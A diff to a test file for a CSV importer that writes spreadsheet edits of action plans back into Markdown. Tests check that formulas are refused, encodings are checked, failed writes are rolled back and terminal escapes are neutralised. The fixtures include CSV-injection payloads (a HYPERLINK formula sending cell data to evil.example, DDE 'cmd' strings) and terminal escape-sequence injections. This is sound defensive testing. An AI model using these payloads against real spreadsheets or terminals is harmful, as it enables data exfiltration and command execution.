@@ -3,13 +3,14 @@
  * edited in a spreadsheet, goes back into the action files. Only status, RAG and progress
  * change; every other byte of every file stays as it was; any bad row means nothing is written.
  */
-import { readFileSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { importActions, parseCellDate } from '../../src/authoring/import.ts';
+import { nodeWriter, temporaryPath } from '../../src/authoring/write-files.ts';
 import { checkContent } from '../../src/model/check.ts';
 import { actionColumns, actionsCsv } from '../../src/open-data/actions-csv.ts';
-import { parseCsv, toCsv } from '../../src/open-data/csv.ts';
+import { parseCsv } from '../../src/open-data/csv.ts';
 import { md, validTree, writeTree, type ContentTree, type Tree } from '../helpers/content-tree.ts';
 import { changedFiles, runScript, snapshotFiles } from './files.ts';
 
@@ -77,10 +78,14 @@ function publishedCsv(contentDir: string, partnership = 'hampshire'): string {
   return `\uFEFF${actionsCsv(index.partnership(partnership)!.actions, (a) => `/${a.partnership.id}/actions/${a.id}/`, '2026-11-23')}`;
 }
 
-/** The CSV with some cells changed: `edits[id][column] = value`. */
+/** CSV as a spreadsheet saves it: quoted where RFC 4180 needs it, and no apostrophe added before anything. */
+const spreadsheetCsv = (rows: string[][]) =>
+  rows.map((row) => row.map((v) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',')).join('\r\n') + '\r\n';
+
+/** The CSV with some cells changed, as a spreadsheet would save it: `edits[id][column] = value`. */
 function edited(csv: string, edits: Record<string, Partial<Record<(typeof actionColumns)[number], string>>>): string {
   const [header, ...rows] = parseCsv(csv).rows;
-  return toCsv([
+  return spreadsheetCsv([
     header,
     ...rows.map((row) => header.map((column, i) => edits[row[0]]?.[column as (typeof actionColumns)[number]] ?? row[i])),
   ]);
@@ -370,6 +375,299 @@ describe('npm run import', () => {
   });
 });
 
+describe('npm run import and spreadsheet formulas', () => {
+  /** Updates that start the way a formula does: Markdown lists, a dash for "nobody", a sum in words. */
+  const formulaLike: Tree = {
+    'hampshire/actions/list-update.md': md`
+      ---
+      title: '- Dashes and @mentions: a title'
+      order: 5
+      objective: understand-neglect
+      status: in-progress
+      progress:
+        - date: 2021-04-01
+          by: '-'
+          text: |-
+            - completed audit
+            - trained 40 staff
+      ---
+    `,
+    'hampshire/actions/sum-update.md': md`
+      ---
+      title: Count the referrals
+      order: 6
+      objective: understand-neglect
+      status: in-progress
+      progress:
+        - date: 2021-04-02
+          by: '@Chair'
+          text: '=2+2 is four, and +1 more: 5 referrals.'
+      ---
+    `,
+  };
+
+  it('reads back the apostrophes actions.csv adds, so an unchanged export changes nothing, byte for byte', () => {
+    const { csvPath, contentDir, write } = setUp(formulaLike);
+    const csv = publishedCsv(contentDir);
+    expect(csv).toContain(`"'- completed audit\n- trained 40 staff"`);
+    write(csv);
+    const before = snapshotFiles(contentDir);
+    const result = importActions({ csvPath, contentDir });
+    expect(stable(result.report)).toBe('No changes: every action in actions.csv already matches its file (6 checked).');
+    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
+  });
+
+  it('takes a list written in a spreadsheet, without the apostrophe, as text', () => {
+    const { csvPath, contentDir, write } = setUp(formulaLike);
+    write(
+      edited(publishedCsv(contentDir), {
+        'list-update': { last_update_by: '-', last_update_text: '- completed audit\n- trained 40 staff' },
+        'deliver-training': { last_update_date: '2021-06-30', last_update_text: '- sessions delivered\n+ 120 staff attended' },
+      }),
+    );
+    const result = importActions({ csvPath, contentDir });
+    expect(result.exitCode, result.report).toBe(0);
+    expect(result.changes.map((c) => c.file)).toEqual([expect.stringMatching(/deliver-training\.md$/)]);
+    const action = checkContent(contentDir)
+      .index.partnership('hampshire')!
+      .actions.find((a) => a.id === 'deliver-training')!;
+    expect(action.entry.data.progress.at(-1)).toEqual({ date: '2021-06-30', text: '- sessions delivered\n+ 120 staff attended' });
+  });
+
+  it('refuses a formula in any imported column, naming the row, the column and what to do, and writes nothing', () => {
+    const { csvPath, contentDir, write } = setUp();
+    write(
+      edited(publishedCsv(contentDir), {
+        'deliver-training': { last_update_date: '2021-06-30', last_update_text: '=HYPERLINK("https://evil.example/?d="&A1,"Report")' },
+        'windows-file': { last_update_date: '2021-06-30', last_update_by: '@SUM(1+1)', last_update_text: 'Audit done.' },
+        'flow-style': { status: "+cmd|' /C calc'!A0" },
+        'empty-progress': { rag: '=1+1', last_update_date: '2021-06-30', last_update_text: "-2+3+cmd|' /C calc'!A0" },
+      }),
+    );
+    const before = snapshotFiles(contentDir);
+    const result = importActions({ csvPath, contentDir });
+    expect(result.exitCode).toBe(1);
+    expect(stable(result.report)).toMatchInlineSnapshot(`
+      "error actions.csv row 2
+          last_update_text: "=HYPERLINK("https://evil.example/?d="&A1,"Report")" is a spreadsheet formula, not text
+          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+      error actions.csv row 3
+          last_update_by: "@SUM(1+1)" is a spreadsheet formula, not text
+          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+      error actions.csv row 4
+          status: "+cmd|' /C calc'!A0" is a spreadsheet formula, not text
+          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+      error actions.csv row 5
+          rag: "=1+1" is a spreadsheet formula, not text
+          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+      error actions.csv row 5
+          last_update_text: "-2+3+cmd|' /C calc'!A0" is a spreadsheet formula, not text
+          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+
+      5 problems found. Nothing was written; fix the spreadsheet and run the import again."
+    `);
+    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
+  });
+});
+
+/** Text as Excel's "CSV (Comma delimited)" saves it on a UK Windows PC: one Windows-1252 byte per character. */
+function windows1252(text: string): Buffer {
+  const decoder = new TextDecoder('windows-1252');
+  const byteOf = new Map(Array.from({ length: 256 }, (_, b) => [decoder.decode(Uint8Array.of(b)), b]));
+  return Buffer.from([...text].map((char) => byteOf.get(char) ?? 0x3f));
+}
+
+describe('npm run import and text encodings', () => {
+  const update = { last_update_date: '2021-06-30', last_update_text: 'Audit’s cost: £5 – café “done”' };
+
+  it('refuses a Windows-1252 file (Excel\'s "CSV (Comma delimited)"), naming the line and the Save As type, and writes nothing', () => {
+    const { csvPath, contentDir } = setUp();
+    const csv = edited(publishedCsv(contentDir), { 'windows-file': update }).replace(/^\uFEFF/, '');
+    const bytes = windows1252(csv);
+    expect(new TextDecoder('windows-1252').decode(bytes)).toBe(csv);
+    writeFileSync(csvPath, bytes);
+    const before = snapshotFiles(contentDir);
+    const result = importActions({ csvPath, contentDir });
+    expect(result.exitCode).toBe(1);
+    expect(stable(result.report)).toMatchInlineSnapshot(`
+      "error actions.csv:3
+          the file is not saved as UTF-8, so its accents and quotes cannot be read for certain: this line has the byte 0x92, which is ’ in Windows-1252 (Excel's "CSV (Comma delimited)") but another character in other encodings
+          hint: in Excel, choose File > Save As and the type "CSV UTF-8 (Comma delimited) (*.csv)", then import that file
+
+      1 problem found. Nothing was written; fix the spreadsheet and run the import again."
+    `);
+    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
+  });
+
+  it('refuses Unicode Text (UTF-16, with or without its byte-order mark), and writes nothing', () => {
+    const { csvPath, contentDir } = setUp();
+    // Excel's "Unicode Text" separates cells with tabs.
+    const tsv = parseCsv(edited(publishedCsv(contentDir), { 'windows-file': update }))
+      .rows.map((row) => row.join('\t'))
+      .join('\r\n');
+    const before = snapshotFiles(contentDir);
+    const importBytes = (bytes: Buffer) => {
+      writeFileSync(csvPath, bytes);
+      const result = importActions({ csvPath, contentDir });
+      expect(result.exitCode).toBe(1);
+      return stable(result.report);
+    };
+    expect(importBytes(Buffer.from(`\uFEFF${tsv}`, 'utf16le'))).toMatchInlineSnapshot(`
+      "error actions.csv
+          the file is saved as Unicode Text (UTF-16), not as CSV
+          hint: in Excel, choose File > Save As and the type "CSV UTF-8 (Comma delimited) (*.csv)", then import that file
+
+      1 problem found. Nothing was written; fix the spreadsheet and run the import again."
+    `);
+    expect(importBytes(Buffer.from(tsv, 'utf16le'))).toMatchInlineSnapshot(`
+      "error actions.csv
+          the file holds NUL characters, so it is not CSV text (it may be saved as Unicode Text)
+          hint: in Excel, choose File > Save As and the type "CSV UTF-8 (Comma delimited) (*.csv)", then import that file
+
+      1 problem found. Nothing was written; fix the spreadsheet and run the import again."
+    `);
+    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
+  });
+
+  it('imports CSV UTF-8 with its byte-order mark, CRLF line ends and the columns in another order, accents and all', () => {
+    const { csvPath, contentDir } = setUp();
+    const [header, ...rows] = parseCsv(edited(publishedCsv(contentDir), { 'windows-file': update })).rows;
+    const order = [...header].reverse();
+    const text = `\uFEFF${spreadsheetCsv([order, ...rows.map((row) => order.map((name) => row[header.indexOf(name)]))])}`;
+    expect(text).toMatch(/^\uFEFFurl,last_update_text,.*\r\n/);
+    writeFileSync(csvPath, text);
+    const result = importActions({ csvPath, contentDir });
+    expect(result.exitCode, result.report).toBe(0);
+    expect(result.changes.map((c) => c.file)).toEqual([expect.stringMatching(/windows-file\.md$/)]);
+    const action = checkContent(contentDir)
+      .index.partnership('hampshire')!
+      .actions.find((a) => a.id === 'windows-file')!;
+    expect(action.entry.data.progress.at(-1)).toEqual({ date: '2021-06-30', text: 'Audit’s cost: £5 – café “done”' });
+    expect(read('windows-file.md')).toContain('\r\n  - date: 2021-06-30\r\n    text: "Audit’s cost: £5 – café “done”"\r\n---');
+  });
+});
+
+describe('npm run import when a file cannot be written', () => {
+  /** Three files to change, in this order: deliver-training, windows-file, flow-style. */
+  function threeChanges() {
+    const setup = setUp();
+    setup.write(
+      edited(publishedCsv(setup.contentDir), {
+        'deliver-training': { status: 'complete' },
+        'windows-file': { rag: 'green' },
+        'flow-style': { status: 'delayed' },
+      }),
+    );
+    return setup;
+  }
+  const inUse = () => Object.assign(new Error('EBUSY: resource busy or locked, rename'), { code: 'EBUSY' });
+
+  it('puts back every file already written when a later one fails, and says so', () => {
+    const { csvPath, contentDir } = threeChanges();
+    const before = snapshotFiles(contentDir);
+    const renamed: string[] = [];
+    const result = importActions({
+      csvPath,
+      contentDir,
+      writer: {
+        ...nodeWriter,
+        // As Windows does when the file is open in another program.
+        rename(from, to) {
+          if (to.endsWith('flow-style.md')) throw inUse();
+          nodeWriter.rename(from, to);
+          renamed.push(path.basename(to));
+        },
+      },
+    });
+    expect(renamed).toEqual(['deliver-training.md', 'windows-file.md', 'windows-file.md', 'deliver-training.md']);
+    expect(result.exitCode).toBe(1);
+    expect(result.written).toBe(false);
+    expect(stable(result.report)).toMatchInlineSnapshot(`
+      "error content/hampshire/actions/flow-style.md
+          could not write this file: it is in use by another program (EBUSY)
+          hint: close any program that has the file open, check there is space on the disk and that you may change the folder, then run the import again
+
+      Nothing was changed: the 2 files already written were put back exactly as they were (content/hampshire/actions/deliver-training.md, content/hampshire/actions/windows-file.md)."
+    `);
+    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
+    expect(readdirSync(path.join(contentDir, 'hampshire/actions')).filter((name) => name.startsWith('.'))).toEqual([]);
+  });
+
+  it('writes nothing when a folder stands where a file must be written', () => {
+    const { csvPath, contentDir } = threeChanges();
+    mkdirSync(temporaryPath(path.join(contentDir, 'hampshire/actions/flow-style.md')));
+    const before = snapshotFiles(contentDir);
+    const result = importActions({ csvPath, contentDir });
+    expect(result.exitCode).toBe(1);
+    expect(stable(result.report)).toMatchInlineSnapshot(`
+      "error content/hampshire/actions/flow-style.md
+          could not write this file: a folder is in the way (EISDIR)
+          hint: close any program that has the file open, check there is space on the disk and that you may change the folder, then run the import again
+
+      Nothing was changed."
+    `);
+    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
+  });
+
+  it('writes nothing when a file is saved in an editor while the import runs', () => {
+    const { csvPath, contentDir } = threeChanges();
+    const file = path.join(contentDir, 'hampshire/actions/windows-file.md');
+    const result = importActions({
+      csvPath,
+      contentDir,
+      writer: {
+        ...nodeWriter,
+        readFile(name) {
+          if (name === file) writeFileSync(file, readFileSync(file, 'utf8').replace('Audit started.', 'Audit started early.'));
+          return nodeWriter.readFile(name);
+        },
+      },
+    });
+    expect(result.exitCode).toBe(1);
+    expect(stable(result.report)).toMatchInlineSnapshot(`
+      "error content/hampshire/actions/windows-file.md
+          this file changed while the import was running
+          hint: run the import again
+
+      Nothing was changed."
+    `);
+    expect(read('deliver-training.md')).toContain('status: in-progress');
+    expect(read('windows-file.md')).toContain('Audit started early.');
+    expect(read('flow-style.md')).not.toContain('status:');
+  });
+
+  it('names a file it could not put back, and what to do about it', () => {
+    const { csvPath, contentDir } = threeChanges();
+    let renames = 0;
+    const result = importActions({
+      csvPath,
+      contentDir,
+      writer: {
+        ...nodeWriter,
+        rename(from, to) {
+          renames += 1;
+          // The third file fails, and so does putting back the second.
+          if (renames === 3 || renames === 4) throw inUse();
+          nodeWriter.rename(from, to);
+        },
+      },
+    });
+    expect(result.exitCode).toBe(1);
+    expect(stable(result.report)).toMatchInlineSnapshot(`
+      "error content/hampshire/actions/flow-style.md
+          could not write this file: it is in use by another program (EBUSY)
+          hint: close any program that has the file open, check there is space on the disk and that you may change the folder, then run the import again
+      error content/hampshire/actions/windows-file.md
+          this file was changed and could not be put back: it is in use by another program (EBUSY)
+          hint: it holds the imported change; to undo it, put back its previous version (with git: git checkout -- content/hampshire/actions/windows-file.md)
+
+      The import stopped part-way: 1 file could not be put back (above); the other file already written was put back exactly as it was. Run \`npm run check\` before importing again."
+    `);
+    expect(read('deliver-training.md')).toContain('status: in-progress');
+    expect(read('windows-file.md')).toContain('rag: green');
+  });
+});
+
 describe('scripts/import.ts', () => {
   it('--dry-run prints what would change and writes nothing', () => {
     const { csvPath, contentDir, write } = setUp();
@@ -388,6 +686,32 @@ describe('scripts/import.ts', () => {
       "
     `);
     expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
+  });
+
+  it('never prints the escape sequences a cell holds: it shows them as \\x1b', () => {
+    const { csvPath, contentDir, write } = setUp();
+    write(
+      edited(publishedCsv(contentDir), {
+        'deliver-training': {
+          last_update_date: '2021-06-30',
+          last_update_by: '\u001b[2JBusiness Manager',
+          last_update_text: '\u001b]8;;https://evil.example/\u0007All sessions delivered\u001b]8;;\u0007',
+        },
+      }),
+    );
+    const dryRun = runScript('import', [path.basename(csvPath), '--dry-run'], tree!.root);
+    expect(dryRun.status).toBe(0);
+    expect(dryRun.stdout.replace(/\n/g, '')).not.toMatch(/\p{Cc}/u);
+    expect(dryRun.stdout).toContain(
+      'progress: + 2021-06-30 by \\x1b[2JBusiness Manager: "\\x1b]8;;https://evil.example/\\x07All sessions delivered\\x1b]8;;\\x07"',
+    );
+
+    write(edited(publishedCsv(contentDir), { 'deliver-training': { status: 'complete\r\u001b[32mall good' } }));
+    const refused = runScript('import', [path.basename(csvPath)], tree!.root);
+    expect(refused.status).toBe(1);
+    expect(refused.stderr.replace(/\n/g, '')).not.toMatch(/\p{Cc}/u);
+    // A lone carriage return inside a cell is a line break, as in every other cell.
+    expect(refused.stderr).toContain('status: unknown status "complete\\n\\x1b[32mall good"; did you mean "complete"?');
   });
 
   it('exits 2 without a file, and 1 with nothing written for a file that does not exist', () => {
